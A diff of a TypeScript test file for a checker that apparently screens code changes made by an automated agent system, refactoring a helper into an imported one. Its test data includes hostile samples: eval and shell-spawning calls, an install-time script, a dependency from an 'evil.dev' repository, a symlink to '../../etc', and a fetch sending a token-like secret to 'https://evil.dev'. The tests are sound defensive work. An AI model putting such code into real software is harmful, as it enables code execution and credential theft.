@@ -1,4 +1,5 @@
 import { expect, test } from "vitest";
+import { changeOf } from "../testing/changed.ts";
 import type { TaskSpec } from "@nightshift/protocol/task";
 import type { Change } from "./changes.ts";
 import { constitutionCheck } from "./constitution.ts";
@@ -21,17 +22,10 @@ const task: TaskSpec = {
   depth: 0,
   source: "director",
 };
-const change = (path: string, before: string | null, after: string | null): Change => ({
-  path,
-  before,
-  after,
-  status: before === null ? "added" : after === null ? "deleted" : "modified",
-  special: null,
-});
 const rulesOf = (changes: Change[], spec = task) => [
   ...new Set(constitutionCheck(changes, spec, []).hits.map(({ rule }) => rule)),
 ];
-const added = (path: string, text: string) => rulesOf([change(path, null, text)]);
+const added = (path: string, text: string) => rulesOf([changeOf(path, null, text)]);
 
 const JAVASCRIPT_ATTACKS: [string, string][] = [
   ["eval", "eval(input);"],
@@ -91,7 +85,7 @@ const JAVASCRIPT_ATTACKS: [string, string][] = [
 ];
 
 test.each(JAVASCRIPT_ATTACKS)("JavaScript is caught breaking %s: %.60s", (rule, text) => {
-  const { check, hits } = constitutionCheck([change("src/a.ts", null, text)], task, []);
+  const { check, hits } = constitutionCheck([changeOf("src/a.ts", null, text)], task, []);
   expect(hits.map((hit) => hit.rule)).toContain(rule);
   expect(check.outcome).toBe("fail");
 });
@@ -202,22 +196,22 @@ test.each([
 
 test("only what the change adds counts, in whichever changed file it stood before", () => {
   const old = "export const run = (x: string) => eval(x);\n";
-  expect(rulesOf([change("a.ts", old, `// looked at\n${old}`)])).toEqual([]);
-  expect(rulesOf([change("a.ts", old, null), change("b.ts", null, old)])).toEqual([]);
+  expect(rulesOf([changeOf("a.ts", old, `// looked at\n${old}`)])).toEqual([]);
+  expect(rulesOf([changeOf("a.ts", old, null), changeOf("b.ts", null, old)])).toEqual([]);
   expect(
-    rulesOf([change("a.ts", old, `${old}export const twice = (x: string) => eval(x);\n`)]),
+    rulesOf([changeOf("a.ts", old, `${old}export const twice = (x: string) => eval(x);\n`)]),
   ).toEqual(["eval"]);
 });
 
 test("code that is taken out of its comment is code that is added", () => {
   const before = "/*\neval(x);\n*/\n";
-  expect(rulesOf([change("a.ts", before, "eval(x);\n")])).toEqual(["eval"]);
+  expect(rulesOf([changeOf("a.ts", before, "eval(x);\n")])).toEqual(["eval"]);
 });
 
 test("a line that is added inside an old call can break it", () => {
   const call = (options: string) =>
     `import { spawn } from "node:child_process";\nspawn(name, [], {\n  cwd,\n${options}});\n`;
-  expect(rulesOf([change("a.ts", call(""), call("  shell: true,\n"))])).toEqual(["shell"]);
+  expect(rulesOf([changeOf("a.ts", call(""), call("  shell: true,\n"))])).toEqual(["shell"]);
 });
 
 test("tests may use what they test, but may not take credentials", () => {
@@ -227,7 +221,7 @@ test("tests may use what they test, but may not take credentials", () => {
 
 test("a director allows a rule to be broken in one task by its tag; nobody else does", () => {
   const text = 'import { exec } from "node:child_process";\nexec(line);\neval(line);';
-  const changes = [change("a.ts", null, text)];
+  const changes = [changeOf("a.ts", null, text)];
   const spec = { ...task, tags: ["allow:shell"] };
   expect(rulesOf(changes, spec)).toEqual(["eval"]);
   expect(rulesOf(changes, { ...spec, source: "backlog-file" })).toContain("shell");
@@ -242,7 +236,7 @@ test("a director allows a rule to be broken in one task by its tag; nobody else 
 
 test("what a guest writes in its task gives no permission", () => {
   const text = 'fetch("https://api.named.dev/v1");';
-  expect(rulesOf([change("a.ts", null, text)], { ...task, source: "guest" })).toEqual([
+  expect(rulesOf([changeOf("a.ts", null, text)], { ...task, source: "guest" })).toEqual([
     "unknown-host",
   ]);
 });
@@ -250,7 +244,7 @@ test("what a guest writes in its task gives no permission", () => {
 test("scripts that run at install and packages from elsewhere are caught, the others pass", () => {
   const manifest = (more: object) => JSON.stringify({ name: "a", scripts: { test: "x" }, ...more });
   const before = manifest({});
-  const rules = (more: object) => rulesOf([change("package.json", before, manifest(more))]);
+  const rules = (more: object) => rulesOf([changeOf("package.json", before, manifest(more))]);
   expect(rules({ scripts: { test: "x", postinstall: "node x.js" } })).toEqual(["install-script"]);
   expect(rules({ dependencies: { a: "git+https://evil.dev/a.git" } })).toEqual(["foreign-source"]);
   expect(rules({ dependencies: { a: "someone/a" } })).toEqual(["foreign-source"]);
@@ -269,7 +263,7 @@ test.each([
 
 test("a link that leads out of the repository is caught, one inside it passes", () => {
   const link = (path: string, target: string): Change => ({
-    ...change(path, null, target),
+    ...changeOf(path, null, target),
     special: "link",
   });
   expect(rulesOf([link("a/b", "../../etc")])).toEqual(["path-escape"]);
@@ -281,7 +275,7 @@ test("a hit names rule, file and line, and its excerpt is short and holds no sec
   const token = `ghp_${"a1B2c3D4e5F6".repeat(3)}`;
   const options = `{ headers: { a: "${token}" }, b: "${"x".repeat(300)}" }`;
   const text = `\n\nfetch("https://evil.dev", ${options});`;
-  const { hits } = constitutionCheck([change("src/a.ts", null, text)], task, []);
+  const { hits } = constitutionCheck([changeOf("src/a.ts", null, text)], task, []);
   expect(hits).toMatchObject([{ rule: "unknown-host", file: "src/a.ts", line: 3 }]);
   expect(hits[0]?.excerpt.length).toBeLessThanOrEqual(200);
   expect(hits[0]?.excerpt).not.toContain(token);
@@ -293,6 +287,6 @@ test("a filter that git would run is caught, a plain attribute passes", () => {
 });
 
 test("a file too large to be read is a doubt", () => {
-  const large = change("a.ts", null, "x".repeat(2_000_001));
+  const large = changeOf("a.ts", null, "x".repeat(2_000_001));
   expect(constitutionCheck([large], task, []).check.outcome).toBe("unverifiable");
 });
